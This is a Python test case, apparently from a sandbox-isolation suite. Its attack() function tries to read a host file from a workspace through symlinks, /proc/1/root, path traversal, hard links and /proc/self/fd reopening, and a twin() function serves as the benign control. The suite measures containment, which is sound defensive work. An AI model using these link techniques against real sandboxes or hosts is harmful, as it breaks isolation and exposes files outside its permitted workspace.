"""Make a link in the workspace that leads to a file of the host.

Technique: symbolic links to the path itself and through /proc/1/root, hard links, a bare O_PATH descriptor opened again
    through /proc/self/fd, and a rename of the file to a place that can be read. Whoever opens files of the workspace
    from outside, or resolves links in another root, gives the file away (CVE-2024-28185 and CVE-2024-28189 were such
    links).
Success: the contents of a file that lies outside.
Stopped by: mount_namespace, root_filesystem
"""


def attack():
    file = canary["file"]
    links = []
    for number, target in enumerate([file, "/proc/1/root" + file, "../" * 30 + file.lstrip("/")]):
        os.symlink(target, f"link{number}")
        links.append(f"link{number}")
    for source in [file, *links]:
        for way in (
            lambda: os.link(source, source.replace("/", "_") + ".hard", follow_symlinks=True),
            lambda: os.link(source, source.replace("/", "_") + ".same", follow_symlinks=False),
        ):
            answer(way)
    for name in [*links, *(name for name in os.listdir(".") if name.endswith((".hard", ".same")))]:
        try:
            with open(name) as found:
                return f"{name}: {found.read(100)}"
        except OSError:
            pass
    held = os.open(file, os.O_PATH)
    with open(f"/proc/self/fd/{held}") as found:
        return found.read(100)


def twin():
    """Links to one's own files, and to what is shown of the machine, are followed."""
    with open("own.txt", "w") as own:
        own.write("mine")
    os.symlink("own.txt", "soft")
    os.link("own.txt", "hard")
    assert open("soft").read() == open("hard").read() == "mine"
    os.symlink(os.__file__, "module.py")
    assert "def " in open("module.py").read()
    held = os.open("own.txt", os.O_PATH)
    assert open(f"/proc/self/fd/{held}").read() == "mine"
